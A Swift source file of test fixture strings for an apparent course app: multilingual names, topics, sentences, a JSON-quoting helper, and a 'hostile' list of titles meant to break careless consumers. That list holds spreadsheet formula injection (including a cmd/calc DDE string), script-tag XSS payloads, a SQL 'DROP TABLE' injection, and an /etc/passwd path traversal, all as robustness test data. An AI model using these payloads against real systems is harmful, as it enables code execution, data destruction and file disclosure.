/// Titles, names and sentences as people write them, and as people who mean harm write them.
enum Phrases {
    /// Names as they stand in bank forms and on pages: several scripts, accents, apostrophes.
    static let names = [
        "Sokha Chan", "ចាន់ សុខា", "Dara Kim", "វណ្ណា លី", "Amélie Dupont", "José García Núñez", "Søren Ångström",
        "Łukasz Żółć", "Nguyễn Thị Hồng", "李小龍", "田中 さくら", "김민준", "محمد الأمين", "נועה כהן", "Olena Шевченко",
        "Conan O'Brien", "Anne-Sophie \"Sophie\" Müller", "Priya Raghunathan", "Ọlá Adéyẹmí", "Zoë van der Berg",
    ]

    /// What is taught.
    static let topics = [
        "Linear algebra", "Khmer grammar", "វេយ្យាករណ៍ខ្មែរ", "Cellular respiration", "Macroeconomics", "Organic chemistry",
        "Angkor and its kings", "ប្រវត្តិសាស្ត្រអង្គរ", "La grammaire française", "Español para viajeros", "統計学入門", "机器学习基础",
        "한국어 첫걸음", "مبادئ المحاسبة", "מבוא לפיזיקה", "Введение в логику", "Music theory", "Thermodynamics",
        "Public speaking", "Double-entry bookkeeping", "Human anatomy", "Databases", "Creative writing",
        "Number theory",
    ]

    /// How it is presented.
    static let forms = [
        "for beginners", "in 30 days", "— exam notes", "(2nd edition)", ": a short course", "worked examples",
        "flash cards",
        "cheat sheet", "lecture notes", "& exercises",
    ]

    /// Titles that break careless spreadsheets, pages, files and logs.
    static let hostile = [
        "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"free course\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "<script>alert('paid')</script>", "<img src=x onerror=\"alert(1)\">", "Robert'); DROP TABLE users;--",
        "quotes \" and 'single' and `back`", "tab\there", "two\nlines", "carriage\r\nreturn", "back\\slash \\N \\.",
        "comma, semicolon; pipe|", "bell\u{7} escape\u{1B}[31m red", "zero\u{200B}width\u{FEFF}",
        "{{mustache}} ${var} %s",
        "right\u{202E}to left", "e\u{301}\u{302}\u{303}\u{304} stacked", "👩‍👩‍👧‍👦 family 🇰🇭", "\u{1F4B8}\u{85}next line",
        "../../etc/passwd", " leading and trailing ", "", "NULL", String(repeating: "very long ", count: 200),
    ]

    /// What donors and raters say; some say nothing.
    static let messages: [String?] = [
        nil, nil, nil, "Thank you!", "អរគុណច្រើន", "Merci beaucoup pour ce cours", "很有帮助", "helped me pass the exam",
        "keep going 💪", "شكرا جزيلا", "=1+1", "line one\nline two", "too short, but good",
    ]

    /// Sentences of which contents, sections and answers are made.
    static let sentences = [
        "A definition comes first, then an example, then an exercise.",
        "Every step is checked against the one before it.",
        "Most mistakes are made with the sign.", "The second law follows from the first by a short argument.",
        "ពាក្យនេះមានន័យពីរ។", "On remarque que la somme reste constante.", "The result holds for every whole number.",
        "Write it down in your own words before you read on.", "Compare the two columns and explain the difference.",
        "The capital was moved when the river changed its course.", "Une exception mérite d'être retenue.",
        "Supply meets demand at a price that neither side chose.", "这个例子说明了一般情况。",
        "Repeat after a day, then after a week.",
    ]

    /// What contents are filed under.
    static let categories: [String?] = ["science", "languages", "history", "business", "music", "computing", nil]

    /// A content's title; one in 23 is hostile.
    static func title(_ number: Int, _ random: inout RowRandom) -> String {
        if number % 23 == 11 { return hostile[number / 23 % hostile.count] }
        return "\(random.pick(topics)) \(random.pick(forms))"
    }

    /// So many sentences.
    static func paragraph(_ count: Int, _ random: inout RowRandom) -> String {
        (0..<count).map { _ in random.pick(sentences) }.joined(separator: " ")
    }

    /// A text as a JSON string, with its quotes.
    static func json(_ text: String) -> String {
        var quoted = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"", "\\": quoted += "\\\(scalar)"
            case "\u{0}"..<"\u{20}":
                let digits = String(scalar.value, radix: 16)
                quoted += "\\u" + String(repeating: "0", count: 4 - digits.count) + digits
            default: quoted.unicodeScalars.append(scalar)
            }
        }
        return quoted + "\""
    }
}
